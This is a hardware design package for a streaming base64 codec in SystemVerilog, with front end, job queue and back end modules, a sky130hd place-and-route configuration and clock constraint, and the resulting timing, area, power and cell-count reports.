[src/rtl/base64_codec_macros.svh]
// Assertion macros used by the base64 codec top level.
`ifndef BASE64_CODEC_MACROS_SVH
`define BASE64_CODEC_MACROS_SVH

// Implication checked on every rising edge of clk, ignored while rst is high.
`define B64_ASSERT_IMPL(lbl, ante, cons) \
  lbl: assert property (@(posedge clk) disable iff (rst) (ante) |-> (cons)) \
    else $error("base64 codec check failed");

// Condition that must never hold outside reset.
`define B64_ASSERT_NEVER(lbl, cond) \
  lbl: assert property (@(posedge clk) disable iff (rst) !(cond)) \
    else $error("base64 codec check failed");

`endif

[src/rtl/b64_pkg.sv]
// Package with the shared types, constants and alphabet functions of the base64 codec.
`default_nettype none
package b64_pkg;

  localparam logic DIR_ENCODE = 1'b0;
  localparam logic DIR_DECODE = 1'b1;

  localparam logic [7:0] PAD_CHAR = 8'h3d;  // '='

  // One unit of work handed from the front to the back: up to four result bytes.
  typedef struct packed {
    logic [3:0][7:0] data;      // data[0] goes out first
    logic [1:0]      count_m1;  // number of results minus one
    logic            has_data;
    logic            msg_end;
  } job_t;

  // Fill status of the job queue.
  typedef struct packed {
    logic full;
    logic empty;
  } fifo_stat_t;

  // Alphabet character for a sextet.
  function automatic logic [7:0] enc_char(input logic [5:0] s);
    logic [7:0] c;
    if (s < 6'd26) begin
      c = 8'h41 + {2'b00, s};
    end else if (s < 6'd52) begin
      c = 8'h61 + {2'b00, s - 6'd26};
    end else if (s < 6'd62) begin
      c = 8'h30 + {2'b00, s - 6'd52};
    end else if (s == 6'd62) begin
      c = 8'h2b;
    end else begin
      c = 8'h2f;
    end
    return c;
  endfunction

  // Sextet of a character; bit 6 is set when the character is outside the alphabet.
  function automatic logic [6:0] dec_sextet(input logic [7:0] c);
    logic [6:0] r;
    if (c >= 8'h41 && c <= 8'h5a) begin
      r = {1'b0, 6'(c - 8'h41)};
    end else if (c >= 8'h61 && c <= 8'h7a) begin
      r = {1'b0, 6'(c - 8'h61 + 8'd26)};
    end else if (c >= 8'h30 && c <= 8'h39) begin
      r = {1'b0, 6'(c - 8'h30 + 8'd52)};
    end else if (c == 8'h2b) begin
      r = {1'b0, 6'd62};
    end else if (c == 8'h2f) begin
      r = {1'b0, 6'd63};
    end else begin
      r = {1'b1, 6'd0};
    end
    return r;
  endfunction

endpackage
`default_nettype wire

[src/rtl/base64_codec.sv]
// Top level of the streaming base64 codec: front end, job queue and back end.
//
// Usage:
// The input channel (in_valid/in_ready) carries one item per handshake: a byte
// in in_value and message_last on the final item of a message. The output
// channel (out_valid/out_ready) carries one result item per handshake.
// cfg_we/cfg_wdata write the direction register (0 encode, 1 decode); a write
// also clears any partial group; it is to be made only while the codec is
// idle, which the block does not enforce. The front end classifies each item
// in the cycle it is accepted and, when it completes a group or ends a
// message, queues one job of one to four results. While the receiver is ready,
// the back end plays each job out one result per cycle; an item's first result
// passes the queue, the job register and the output register. Encoding is
// bounded by the output register at four results per three items; decoding and
// items yielding nothing run at the input rate of one item per cycle, since
// three bytes per four characters fit. When the receiver stalls, the output
// register holds its item, the queue fills, and in_ready drops once FIFO_DEPTH
// jobs are waiting. Reset (rst, synchronous) empties the queue and the output
// register, clears the group state and sets the direction to encode.
`default_nettype none
`include "base64_codec_macros.svh"
module base64_codec #(
  parameter int FIFO_DEPTH = 2
) (
  input  wire logic       clk,
  input  wire logic       rst,
  input  wire logic       cfg_we,
  input  wire logic       cfg_wdata,
  input  wire logic       in_valid,
  output logic            in_ready,
  input  wire logic [7:0] in_value,
  input  wire logic       message_last,
  output logic            out_valid,
  input  wire logic       out_ready,
  output logic [7:0]      out_value,
  output logic            has_data,
  output logic            run_last,
  output logic            message_end
);
  import b64_pkg::*;

  job_t       wr_job;
  job_t       rd_job;
  fifo_stat_t stat;
  logic       push;
  logic       pop;

  // Front end: group state, direction register and job building.
  b64_front u_front (
    .clk          (clk),
    .rst          (rst),
    .cfg_we       (cfg_we),
    .cfg_wdata    (cfg_wdata),
    .in_valid     (in_valid),
    .in_ready     (in_ready),
    .in_value     (in_value),
    .message_last (message_last),
    .stat         (stat),
    .push         (push),
    .job          (wr_job)
  );

  // Job queue so that input and output stall independently.
  b64_fifo #(
    .DEPTH (FIFO_DEPTH)
  ) u_fifo (
    .clk    (clk),
    .rst    (rst),
    .push   (push),
    .wr_job (wr_job),
    .pop    (pop),
    .rd_job (rd_job),
    .stat   (stat)
  );

  // Back end: sequences each job onto the output channel.
  b64_back u_back (
    .clk         (clk),
    .rst         (rst),
    .rd_job      (rd_job),
    .stat        (stat),
    .pop         (pop),
    .out_valid   (out_valid),
    .out_ready   (out_ready),
    .out_value   (out_value),
    .has_data    (has_data),
    .run_last    (run_last),
    .message_end (message_end)
  );

  // The front end never pushes a job into a full queue.
  `B64_ASSERT_NEVER(a_no_push_full, push && stat.full)
  // The back end never pops an empty queue.
  `B64_ASSERT_NEVER(a_no_pop_empty, pop && stat.empty)
  // The end of a message always closes the run of its item.
  `B64_ASSERT_IMPL(a_end_closes_run, out_valid && message_end, run_last)
  // An item without data is only ever the empty end marker.
  `B64_ASSERT_IMPL(a_empty_is_marker, out_valid && !has_data, run_last && message_end)

endmodule
`default_nettype wire

[src/rtl/b64_front.sv]
// Front end: accepts items, keeps the group state and builds one job per result run.
`default_nettype none
module b64_front (
  input  wire logic              clk,
  input  wire logic              rst,
  input  wire logic              cfg_we,
  input  wire logic              cfg_wdata,
  input  wire logic              in_valid,
  output logic                   in_ready,
  input  wire logic [7:0]        in_value,
  input  wire logic              message_last,
  input  wire b64_pkg::fifo_stat_t stat,
  output logic                   push,
  output b64_pkg::job_t          job
);
  import b64_pkg::*;

  logic        direction;
  logic [23:0] gbuf;
  logic [1:0]  gcnt;
  logic        stopped;

  logic [23:0] gbuf_next;
  logic [1:0]  gcnt_next;
  logic        stopped_next;
  logic        emit;
  logic        accept;

  logic [23:0] g_enc;
  logic [1:0]  c_enc;
  logic [6:0]  sx;
  logic [23:0] g_dec;
  logic [23:0] g_full;
  logic [1:0]  c_dec;
  logic        full_grp;

  assign in_ready = !stat.full;
  assign accept   = in_valid && in_ready;
  assign push     = accept && emit;

  always_comb begin
    // Encode path: place the byte into the group.
    g_enc = gbuf;
    case (gcnt)
      2'd0:    g_enc[23:16] = in_value;
      2'd1:    g_enc[15:8]  = in_value;
      default: g_enc[7:0]   = in_value;
    endcase
    c_enc = gcnt + 2'd1;

    // Decode path: map the character and place the sextet.
    sx       = dec_sextet(in_value);
    g_dec    = gbuf;
    c_dec    = gcnt;
    g_full   = gbuf | {18'd0, sx[5:0]};
    full_grp = 1'b0;
    stopped_next = stopped;
    if (!stopped) begin
      if (sx[6]) begin
        stopped_next = 1'b1;
      end else if (gcnt == 2'd3) begin
        full_grp = 1'b1;
        g_dec    = '0;
        c_dec    = 2'd0;
      end else begin
        case (gcnt)
          2'd0:    g_dec[23:18] = sx[5:0];
          2'd1:    g_dec[17:12] = sx[5:0];
          default: g_dec[11:6]  = sx[5:0];
        endcase
        c_dec = gcnt + 2'd1;
      end
    end

    job         = '0;
    job.msg_end = message_last;
    if (direction == DIR_ENCODE) begin
      emit         = (c_enc == 2'd3) || message_last;
      job.count_m1 = 2'd3;
      job.has_data = 1'b1;
      for (int i = 0; i < 4; i++) begin
        if (2'(i) <= c_enc) begin
          job.data[i] = enc_char(g_enc[23 - 6*i -: 6]);
        end else begin
          job.data[i] = PAD_CHAR;
        end
      end
      gbuf_next    = (emit) ? '0 : g_enc;
      gcnt_next    = (emit) ? 2'd0 : c_enc;
      stopped_next = 1'b0;
    end else begin
      emit = full_grp || message_last;
      if (full_grp) begin
        job.data[0]  = g_full[23:16];
        job.data[1]  = g_full[15:8];
        job.data[2]  = g_full[7:0];
        job.count_m1 = 2'd2;
        job.has_data = 1'b1;
      end else if (c_dec >= 2'd2) begin
        job.data[0]  = g_dec[23:16];
        job.data[1]  = g_dec[15:8];
        job.data[2]  = g_dec[7:0];
        job.count_m1 = c_dec - 2'd2;
        job.has_data = 1'b1;
      end
      gbuf_next = g_dec;
      gcnt_next = c_dec;
    end
  end

  always_ff @(posedge clk) begin
    if (rst) begin
      direction <= DIR_ENCODE;
      gbuf      <= '0;
      gcnt      <= 2'd0;
      stopped   <= 1'b0;
    end else if (cfg_we) begin
      direction <= cfg_wdata;
      gbuf      <= '0;
      gcnt      <= 2'd0;
      stopped   <= 1'b0;
    end else if (accept) begin
      if (message_last) begin
        gbuf    <= '0;
        gcnt    <= 2'd0;
        stopped <= 1'b0;
      end else begin
        gbuf    <= gbuf_next;
        gcnt    <= gcnt_next;
        stopped <= stopped_next;
      end
    end
  end

endmodule
`default_nettype wire

[src/rtl/b64_fifo.sv]
// Small register queue of jobs between the front and the back.
`default_nettype none
module b64_fifo #(
  parameter int DEPTH = 2
) (
  input  wire logic                clk,
  input  wire logic                rst,
  input  wire logic                push,
  input  wire b64_pkg::job_t       wr_job,
  input  wire logic                pop,
  output b64_pkg::job_t            rd_job,
  output b64_pkg::fifo_stat_t      stat
);
  import b64_pkg::*;

  localparam int AW = (DEPTH > 1) ? $clog2(DEPTH) : 1;
  localparam int CW = $clog2(DEPTH + 1);

  job_t          mem [DEPTH];
  logic [AW-1:0] wptr;
  logic [AW-1:0] rptr;
  logic [CW-1:0] count;

  assign stat.full  = (count == CW'(DEPTH));
  assign stat.empty = (count == '0);
  assign rd_job     = mem[rptr];

  always_ff @(posedge clk) begin
    if (push) begin
      mem[wptr] <= wr_job;
    end
  end

  always_ff @(posedge clk) begin
    if (rst) begin
      wptr  <= '0;
      rptr  <= '0;
      count <= '0;
    end else begin
      if (push) begin
        wptr <= (wptr == AW'(DEPTH - 1)) ? '0 : wptr + 1'b1;
      end
      if (pop) begin
        rptr <= (rptr == AW'(DEPTH - 1)) ? '0 : rptr + 1'b1;
      end
      if (push && !pop) begin
        count <= count + 1'b1;
      end else if (pop && !push) begin
        count <= count - 1'b1;
      end
    end
  end

endmodule
`default_nettype wire

[src/rtl/b64_back.sv]
// Back end: plays each job out as a run of result items through an output register.
`default_nettype none
module b64_back (
  input  wire logic                clk,
  input  wire logic                rst,
  input  wire b64_pkg::job_t       rd_job,
  input  wire b64_pkg::fifo_stat_t stat,
  output logic                     pop,
  output logic                     out_valid,
  input  wire logic                out_ready,
  output logic [7:0]               out_value,
  output logic                     has_data,
  output logic                     run_last,
  output logic                     message_end
);
  import b64_pkg::*;

  job_t       cur;
  logic       cur_valid;
  logic [1:0] idx;
  logic       load;
  logic       emit_now;
  logic       cur_done;

  assign load     = !out_valid || out_ready;
  assign emit_now = load && cur_valid;
  assign cur_done = emit_now && (idx == cur.count_m1);
  assign pop      = !stat.empty && (!cur_valid || cur_done);

  always_ff @(posedge clk) begin
    if (rst) begin
      cur_valid <= 1'b0;
      out_valid <= 1'b0;
      idx       <= 2'd0;
    end else begin
      if (load) begin
        out_valid <= cur_valid;
      end
      if (pop) begin
        cur_valid <= 1'b1;
        idx       <= 2'd0;
      end else if (cur_done) begin
        cur_valid <= 1'b0;
        idx       <= 2'd0;
      end else if (emit_now) begin
        idx <= idx + 2'd1;
      end
    end
  end

  always_ff @(posedge clk) begin
    if (pop) begin
      cur <= rd_job;
    end
    if (emit_now) begin
      out_value   <= cur.data[idx];
      has_data    <= cur.has_data;
      run_last    <= (idx == cur.count_m1);
      message_end <= (idx == cur.count_m1) && cur.msg_end;
    end
  end

endmodule
`default_nettype wire
[config.mk]
export PLATFORM = sky130hd
export DESIGN_NAME = base64_codec
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/b64_pkg.sv /design/src/rtl/base64_codec.sv /design/src/rtl/b64_front.sv /design/src/rtl/b64_fifo.sv /design/src/rtl/b64_back.sv
export VERILOG_INCLUDE_DIRS = /design/src /design/src/rtl
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CELL_PAD_IN_SITES_DETAIL_PLACEMENT = 2
export CELL_PAD_IN_SITES_GLOBAL_PLACEMENT = 2
export CORE_AREA = 2 2 175 177
export DETAILED_ROUTE_END_ITERATION = 6
export DIE_AREA = 0 0 177 179
export MAX_ROUTING_LAYER = met4
export PLACE_DENSITY = 0.8
export SLEW_MARGIN = 25
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
[constraint.sdc]
create_clock -name clk -period 4.1 [get_ports clk]
set_input_delay 0.41 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.41 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
==> results.json <==
{
  "status": "finished, final reports clean",
  "fmax_ghz": 0.267,
  "cts.path.max_buffers": 2,
  "worstRegToRegCells": 13,
  "yosysTopAreaCell": "edfxtp_1",
  "clk_pin_slew_ns": 0.07,
  "syn_to_final_growth_pct": 11.6,
  "place_area_um2": 10600,
  "synth_async_sr_flop_share_pct": 0,
  "r2r_start": "u_front.gcnt[1]",
  "via_per_inst": 5.16,
  "grt_overflow": 0,
  "maxCapViolCount": 0,
  "antenna_found_initial": 0,
  "post_cts_buffers": 0,
  "p_per_area_nw_per_um2": 478,
  "clkLatencyLatePin_ns": 0.44,
  "synthTopCellsByArea": "edfxtp_1 36%, nand2_1 18%, dfxtp_1 7.2%, ha_1 6.8%, inv_1 4.1%",
  "grt_max_degree": 39,
  "p_leak_nw": 4.61,
  "clock_sink_count": 155,
  "firstDrtPassIters": 4,
  "period_needed_ns": 3.74,
  "diodes": 0,
  "pre_cts_ws_ns": 0.347,
  "grt_pass1_vias": 9697,
  "worst_pin_slew_ns": 0.886,
  "reg2reg_slack_ns": 0.36,
  "initial_core_util_pct": 33.2,
  "port_buffers": 27,
  "dieArea_um2": 31700,
  "slew_violations": 0,
  "route.vias.total": 8935,
  "drc_errors": 0,
  "syn_nets": 1362,
  "min_to": "u_back.out_valid",
  "crit_path_end_kind": "flip-flop",
  "holdWs_ns": 0.233,
  "row_count": 64,
  "core_area_um2": 30000,
  "setup_violations": 0,
  "synthCells": 1293,
  "worst-path-max-fanout": 20,
  "fin_skew_ns": 0.0127,
  "fin_util_pct": 37.0,
  "cp.required_ns": 4.24,
  "yosysMostFrequentCell": "nand2_1",
  "timing.rr.end": "u_fifo.mem[1][33]",
  "dieWidth_um": 177,
  "io_pins": 28,
  "fillers": 3503,
  "drive_above_1_share_pct": 10.7,
  "antenna_left": 0,
  "ys_seq_area_share_pct": 43.1,
  "h-tree-depth": 4,
  "ir_drop_uv": 296,
  "ys_warn_count": 0,
  "timing.final.ws_setup_ns": 0.355,
  "wire_per_inst_um": 20.5,
  "cp.arrival_ns": 3.88,
  "cts_tree": "built",
  "worstHoldPathType": "in2reg",
  "synth_edf_count": 119,
  "tns_ns": 0,
  "hold_depth": 2,
  "grt_pass1_wl_mm": 56.1,
  "rsz0062_at_grt": "no",
  "cts_hold_buf": 0,
  "crit_path_start_kind": "flip-flop",
  "criticalPathCategory": "reg2reg",
  "maxSlewHeadroom_pct": 40.9,
  "final_nets": 1390,
  "ys_ff_latch": 155,
  "finalHoldViolations": 0,
  "die_y_um": 179,
  "fin_area_um2": 11100,
  "cts_root_buffer": "clkbuf_16",
  "globalplace.congestion": 0.889,
  "finalCritPeriodShare_pct": 91.3,
  "cts_buffers": 17,
  "postSynthAreaPerCell_um2": 7.70,
  "hpwlAfterDp_mm": 26.2,
  "first_iter_violations": 626,
  "yosysTopAreaCellShare_pct": 35.9,
  "synth_cell_types": 47,
  "cts_resized": 0,
  "synthTopCellsByCount": "474 x nand2_1, 119 x edfxtp_1, 109 x inv_1, 95 x nor2_1, 69 x a21oi_1",
  "totalWireLength_mm": 35.4,
  "synth_area_um2": 9960,
  "synth_flop_cell": "edfxtp_1",
  "hold_path.startpoint": "rst",
  "grt_use_total_pct": 24.0
}
==> layout by cell type (no fill, tap or decap), types with 7 or more instances in the layout <==
master and n:
nand3_1 57, o21ai_0 57, nand2_2 12, dfxtp_1 35
buf_2 27, xor2_1 33, o21ai_1 29, nand2_1 474
o22ai_1 15, a21oi_1 69, buf_4 23, o21ai_2 9
ha_1 54, inv_1 109, inv_2 13, edfxtp_1 119
nor2_1 92, nor3_1 7, clkbuf_16 17, a31oi_1 8
nand4_1 7
==> per-layer routing <==
layer / GRT usage, % / part of all wire [%] / wire [um]
met4: 7.06 / 2.3 / 814
met5: - / 0 / 0
met3: 2.35 / 2.5 / 895
met1: 29.7 / 45 / 15800
met2: 41.6 / 51 / 17900
==> per-stage QoR <==
step	cells	total power (W)
3_3_place_gp	1698	0.00371
6_report	1730	0.00531
3_5_place_dp	1698	0.00382
4_1_cts	1730	0.00537
5_1_grt	1730	0.00560
2_1_floorplan	1293	0.00322
==> worst max-delay path by stage <==
stage,from,end,slack (ns),depth (start not counted)
floorplan,in_value[2],u_fifo.mem[1][0],0.27,17
global placement,u_front.gcnt[1],u_fifo.mem[0][25],0.56,15
detailed placement,in_value[3],u_fifo.count[1],0.35,20
CTS,u_front.gcnt[1],u_fifo.mem[0][25],0.34,15
global route,u_front.gcnt[1],u_fifo.mem[1][16],0.09,16
finish,u_front.gcnt[1],u_fifo.mem[1][33],0.36,13
==> cell families after synthesis <==
family                   Yosys count  share of synthesized area, %
flip-flops                       155                          43.1
AO/OA/AOI/OAI                    211                          12.1
multiplexers                       1                         0.101
buffers and inverters            165                          7.11
adder cells (fa/ha/maj)           54                          6.79
AND/OR/NAND/NOR                  671                          27.6
XOR/XNOR                          36                          3.17
==> worst max-delay path, cell delays in order, from the launching register on <==
cell and delay, ns:
dfxtp_1 0.35, inv_1 0.12, ha_1 0.75, nor2_4 0.18, o21ai_1 0.52, inv_1 0.22
ha_1 0.25, inv_1 0.08, xor2_1 0.34, nand2_1 0.15, o21ai_1 0.22, nand3_1 0.10
nand3_1 0.08, a31oi_1 0.10
==> flip-flops by register name (all words and copies together), names as in the netlist, 2 cells and up <==
register and count:
u_back.cur 36, u_back.idx 2, u_back.out_value 8, u_fifo.count 2, u_fifo.mem 72, u_front.gbuf 24, u_front.gcnt 2
==> power breakdown <==
group | leakage [nW] | internal (W) | switching (W) | total [W]
clock network | 0.270 | 0.000800 | 0.000730 | 0.00153
logic | 2.95 | 0.000376 | 0.00108 | 0.00146
registers | 1.39 | 0.00216 | 0.000168 | 0.00233
total | 4.61 | 0.00334 | 0.00198 | 0.00531
==> area by class of cell <==
cell class / instances / area, um^2 / area share, %
repair buffers: 51 / 328 / 2.95
clock buffers: 18 / 429 / 3.86
inverters: 123 / 463 / 4.17
flip-flops and latches: 155 / 4300 / 38.7
clock inverters: 14 / 126 / 1.14
well taps: 396 / 495 / 4.46
multi-input cells: 973 / 4970 / 44.8
(Power assumes the default switching activity.)
